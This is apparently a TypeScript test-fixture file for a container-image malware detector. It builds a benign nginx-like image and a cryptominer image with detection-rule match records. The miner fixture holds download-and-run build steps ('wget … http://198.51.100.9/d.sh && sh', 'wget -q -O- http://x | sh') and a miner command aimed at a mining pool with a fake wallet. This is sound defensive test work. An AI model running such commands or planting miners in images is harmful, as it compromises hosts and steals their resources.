// Builders for container-image snapshots in detector tests: an image from just the fields a test
// cares about (layers derived from the build steps, with stable fake digests), a plain nginx-like
// image no image detector may flag, and a snapshot of an image target holding them.
import { createHash } from 'node:crypto';
import {
  ImageSchema,
  ImagesSchema,
  type Image,
  type ImageConfig,
  type ImageFile,
  type ImageHistoryStep,
  type ImageLayer,
} from '../../src/snapshot/image.js';
import type { ContentMatch, Snapshot } from '../../src/snapshot/schema.js';
import { makeSnapshot } from './snapshot-builders.js';

/** A stable fake `sha256:` digest from any text. */
export function fakeDigest(text: string): string {
  return `sha256:${createHash('sha256').update(text).digest('hex')}`;
}

/** A build step as a test writes it: its `created_by` text, and whether it added no layer (ENV, CMD…). */
export interface StepSpec {
  createdBy: string;
  emptyLayer?: boolean;
}

export interface ImageSpec {
  ref?: string;
  digest?: string;
  config?: Partial<ImageConfig>;
  /** The build steps in order; every step that is not `emptyLayer` adds the next layer. */
  steps?: (string | StepSpec)[];
  files?: Partial<ImageFile>[];
  startScripts?: { path: string; text: string }[];
}

/** `CMD […]`, `ENV …`, `EXPOSE …` and the other metadata instructions add no layer. */
function emptyByDefault(createdBy: string): boolean {
  return /#\(nop\)|^(?:CMD|ENTRYPOINT|ENV|ARG|LABEL|EXPOSE|USER|WORKDIR|VOLUME|SHELL|STOPSIGNAL|HEALTHCHECK)\b/.test(
    createdBy.trim(),
  );
}

/** History and layers from the steps: layer indexes count the steps that add one. */
function historyOf(
  ref: string,
  steps: (string | StepSpec)[],
): { history: ImageHistoryStep[]; layers: ImageLayer[] } {
  const history: ImageHistoryStep[] = [];
  const layers: ImageLayer[] = [];
  steps.forEach((s, index) => {
    const spec = typeof s === 'string' ? { createdBy: s } : s;
    const emptyLayer = spec.emptyLayer ?? emptyByDefault(spec.createdBy);
    const step: ImageHistoryStep = { index, createdBy: spec.createdBy, emptyLayer };
    if (!emptyLayer) {
      step.layer = layers.length;
      layers.push({
        index: layers.length,
        digest: fakeDigest(`${ref} layer ${layers.length} ${spec.createdBy}`),
        createdBy: spec.createdBy,
        entries: 10,
        status: 'ok',
      });
    }
    history.push(step);
  });
  return { history, layers };
}

/** An image with harmless defaults, schema-checked; `files` default to layer 0, in the final filesystem. */
export function imageWith(spec: ImageSpec = {}): Image {
  const ref = spec.ref ?? 'docker.io/library/app:1.0';
  const { history, layers } = historyOf(ref, spec.steps ?? ['ADD file:0a1b2c in / ']);
  return ImageSchema.parse({
    ref,
    names: [ref],
    digest: spec.digest ?? fakeDigest(`image ${ref}`),
    os: 'linux',
    architecture: 'amd64',
    config: { env: [], exposedPorts: [], ...spec.config },
    history,
    layers,
    files: (spec.files ?? []).map((f) => ({
      path: '/x',
      layer: 0,
      size: 1024,
      inFinal: true,
      matches: [],
      ...f,
    })),
    startScripts: spec.startScripts ?? [],
    skips: [],
    filesScanned: 100,
  });
}

/** A snapshot of a container-image target holding these images, the image section collected ok. */
export function imageSnapshot(images: Image[], source = '/work/images/app.tar'): Snapshot {
  return makeSnapshot({
    target: { kind: 'container-image', root: source, live: false },
    image: ImagesSchema.parse({ source, format: 'docker-archive', images, skips: [] }),
    collection: [{ collector: 'image.layers', sections: ['image'], status: 'ok', durationMs: 1, errors: [] }],
  });
}

/** An image target whose reader could not read the archive: the image section is missing. */
export function unreadImageSnapshot(source = '/work/images/broken.tar'): Snapshot {
  return makeSnapshot({
    target: { kind: 'container-image', root: source, live: false },
    collection: [
      {
        collector: 'image.layers',
        sections: ['image'],
        status: 'failed',
        durationMs: 1,
        errors: [{ path: source, message: 'manifest.json names a blob the archive does not hold' }],
      },
    ],
  });
}

/**
 * A plain nginx-like image: entrypoint /docker-entrypoint.sh whose script execs nginx, PATH and
 * NGINX_VERSION in Env, port 80, curl installed with apt-get. No image detector may report it.
 */
export function nginxImage(): Image {
  return imageWith({
    ref: 'docker.io/library/nginx:1.25',
    config: {
      entrypoint: ['/docker-entrypoint.sh'],
      cmd: ['nginx', '-g', 'daemon off;'],
      env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'NGINX_VERSION=1.25'],
      exposedPorts: ['80/tcp'],
    },
    steps: [
      '/bin/sh -c #(nop) ADD file:9a4f77dfaba7fd2aa78186e4ef0e7486ad55101cefc1fabbc1b385601bb38920 in / ',
      '/bin/sh -c #(nop)  CMD ["bash"]',
      'ENV NGINX_VERSION=1.25',
      'RUN /bin/sh -c apt-get update && apt-get install -y curl # buildkit',
      'COPY docker-entrypoint.sh / # buildkit',
      'ENTRYPOINT ["/docker-entrypoint.sh"]',
      'EXPOSE map[80/tcp:{}]',
      'CMD ["nginx" "-g" "daemon off;"]',
    ],
    files: [
      { path: '/usr/sbin/nginx', layer: 1, executable: true, form: 'elf', sha256: 'a'.repeat(64) },
      { path: '/docker-entrypoint.sh', layer: 2, executable: true, form: 'script', sha256: 'b'.repeat(64) },
    ],
    startScripts: [
      {
        path: '/docker-entrypoint.sh',
        text: '#!/bin/sh\nset -e\necho "$0: configuration complete; ready for start up"\nexec nginx -g \'daemon off;\'\n',
      },
    ],
  });
}

/** XMRig's program strings, as rules/miners-cpu.yar matches them. */
export const XMRIG_MATCH: ContentMatch = {
  rule: 'MH_XMRig_Miner',
  namespace: 'miners-cpu',
  meta: { description: 'XMRig miner binary', kind: 'open-source-miner', level: 'critical' },
  strings: [{ identifier: '$a', offset: 4096, excerpt: 'XMRig/%s' }],
  stringCount: 3,
};

/** A dropper script's download-and-run line, as rules/droppers-linux.yar matches it. */
export const DROPPER_MATCH: ContentMatch = {
  rule: 'MH_Dropper_Download_And_Run',
  namespace: 'droppers-linux',
  meta: { description: 'download and run', kind: 'fileless', level: 'high' },
  strings: [{ identifier: '$c', offset: 12, excerpt: 'wget -q -O- http://x | sh' }],
  stringCount: 1,
};

/** A miner configuration (pools, donate-level), as rules/configs.yar matches it. */
export const CONFIG_MATCH: ContentMatch = {
  rule: 'MH_Config_XMRig_JSON',
  namespace: 'configs',
  meta: { description: 'XMRig JSON configuration', kind: 'open-source-miner', level: 'high' },
  strings: [{ identifier: '$pools', offset: 40, excerpt: '"pools": [' }],
  stringCount: 2,
};

/** The project's made-up test wallet: the Monero pattern's shape, nobody's address. */
export const MONERO_WALLET =
  '4AMinehunterTestWa11etNotRea1DoNotSendFundsHere111111111111111111111111111111111111111111111111';

/**
 * An image that carries and starts a miner, with every image signal: XMRig added by layer 2 and run
 * by the entrypoint with pool, wallet and --donate-level; the pool in Env; port 3333; a vendor
 * installer piped into bash (layer 1); a dropper fetched in layer 3 and deleted by layer 4.
 */
export function minerImage(): Image {
  return imageWith({
    ref: 'docker.io/evil/webapp:latest',
    config: {
      entrypoint: ['/usr/local/bin/app'],
      cmd: ['-o', 'stratum+tcp://pool.supportxmr.com:3333', '-u', MONERO_WALLET, '--donate-level', '1'],
      env: ['PATH=/usr/local/bin:/usr/bin:/bin', 'POOL_URL=stratum+tcp://pool.supportxmr.com:3333'],
      exposedPorts: ['80/tcp', '3333/tcp'],
    },
    steps: [
      'ADD file:0a1b2c in / ',
      'RUN /bin/sh -c curl -fsSL https://deb.nodesource.com/setup_20.x | bash - # buildkit',
      'COPY app /usr/local/bin/app # buildkit',
      'RUN /bin/sh -c wget -q -O /tmp/d.sh http://198.51.100.9/d.sh && sh /tmp/d.sh # buildkit',
      'RUN /bin/sh -c rm -f /tmp/d.sh # buildkit',
      'ENTRYPOINT ["/usr/local/bin/app"]',
    ],
    files: [
      {
        path: '/usr/local/bin/app',
        layer: 2,
        executable: true,
        form: 'elf',
        sha256: 'c'.repeat(64),
        matches: [XMRIG_MATCH],
      },
      { path: '/tmp/d.sh', layer: 3, form: 'script', inFinal: false, removedBy: 4, matches: [DROPPER_MATCH] },
    ],
  });
}
